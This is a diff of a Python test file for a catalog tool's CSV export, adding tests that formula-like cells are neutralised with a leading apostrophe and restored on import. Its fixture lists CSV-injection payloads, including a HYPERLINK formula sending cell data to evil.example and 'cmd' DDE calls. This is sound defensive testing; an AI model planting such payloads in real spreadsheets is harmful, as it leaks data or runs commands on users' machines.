@@ -10,7 +10,7 @@ import subprocess
 import sys
 from pathlib import Path
 
-from conftest import run_cli, ROOT, TODAY, make_project
+from conftest import run_cli, FIXTURES, ROOT, TODAY, make_project
 from frictionless import Package
 
 from wegweiser.outputs import exports
@@ -98,8 +98,8 @@ def test_export_import_round_trip(example_site, catalog, tmp_path, capsys):
                                    "WEGWEISER_DATA_PATH": str(ROOT / "data")})
     _, copy_catalog = again.load()
     files = dict(exports.data_package(copy_catalog, {}))
-    assert files["angebote.csv"].joined() == (folder / "angebote.csv").read_bytes()  # written piece by piece
-    assert files["anbieter.csv"].joined() == (folder / "anbieter.csv").read_bytes()
+    assert files["angebote.csv"] == (folder / "angebote.csv").read_bytes()
+    assert files["anbieter.csv"] == (folder / "anbieter.csv").read_bytes()
 
 
 def test_data_page_names_licence_attribution_and_files(example_site, catalog):
@@ -124,3 +124,51 @@ def test_licence_and_attribution_settings(catalog):
     assert descriptor["sources"] == [{"title": "Quelle: Stadt X"}]
     assert descriptor["homepage"] == "https://example.org/bildung/daten/"
     assert exports.license_info("Eigene Lizenz") == {"name": "eigene-lizenz", "title": "Eigene Lizenz"}
+
+
+#: (field, value) a spreadsheet program would run as a formula if the cell began with it (OWASP)
+FORMULAS = [
+    ("title", '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'),
+    ("contact_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("summary", "-2+3+cmd|' /C calc'!A0 und mehr Text"),
+    ("venue", "+1+cmd|' /C calc'!A0"),
+    ("cost_note", "\t=1+1 (Tabulator vorne)"),
+    ("schedule", "'=ein Apostroph vor einer Formel"),
+    ("street", "'s-Gravenhage-Straße 1"),
+    ("contact_phone", "+49 5141 4711-12"),
+]
+
+
+def test_formula_cells_are_neutralised_and_the_import_restores_them(minimal_project, tmp_path, capsys):
+    """Cells starting with = + - @ tab (or an apostrophe) get an apostrophe in front; the export still
+    validates, and importing it gives back exactly the values and the body."""
+    values = "\n".join(f"{field}: {json.dumps(value)}" for field, value in FORMULAS)
+    (minimal_project / "content" / "offers" / "formel.md").write_text(
+        "---\nid: formel\nprovider: vhs-test\narea: weiterbildung\ntarget_groups: [erwachsene]\nformat: praesenz\n"
+        f"municipality: musterstadt\nreviewed: 2026-11-01\n{values}\n---\n=1+1 in der ersten Zeile\n\nMehr.\n",
+        encoding="utf-8")
+    assert run_cli(minimal_project, "build") == 0, capsys.readouterr()
+    folder = minimal_project / "output" / "daten"
+    row = next(r for r in csv.DictReader(io.StringIO((folder / "angebote.csv").read_text(encoding="utf-8")))
+               if r["id"] == "formel")
+    for field, value in FORMULAS + [("body", "=1+1 in der ersten Zeile\n\nMehr.")]:
+        assert row[field] == "'" + value, field
+    assert _validate(folder / "datapackage.json")[0], _validate(folder / "datapackage.json")[1]
+    copy = make_project(tmp_path / "kopie", FIXTURES / "minimal" / "content")  # the providers, not the offer
+    assert run_cli(copy, "import", str(folder / "angebote.csv"), "--kind", "offers") == 0, capsys.readouterr()
+    imported = read_source(copy / "content" / "offers" / "formel.md", "formel.md",
+                           {f.name for f in load_schemas(ROOT / "data").offer.fields if f.type == "string"})
+    # the import trims spaces and tabs around every cell (a leading tab is not kept, formula or not)
+    assert {field: imported.values[field] for field, _ in FORMULAS} == {f: v.strip() for f, v in FORMULAS}
+    assert imported.body == "=1+1 in der ersten Zeile\n\nMehr."
+
+
+def test_formula_cells_in_the_report_are_neutralised(minimal_project, tmp_path, capsys):
+    offers = minimal_project / "content" / "offers"
+    source = (offers / "alter-kurs.md").read_text(encoding="utf-8")
+    (offers / "alter-kurs.md").write_text(source.replace("title: ", 'title: "=HYPERLINK(1)" #', 1), encoding="utf-8")
+    target = tmp_path / "bericht.csv"
+    assert run_cli(minimal_project, "report", "--format", "csv", "--output", str(target)) == 0, capsys.readouterr()
+    cells = [cell for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))) for cell in row]
+    assert "'=HYPERLINK(1)" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")]
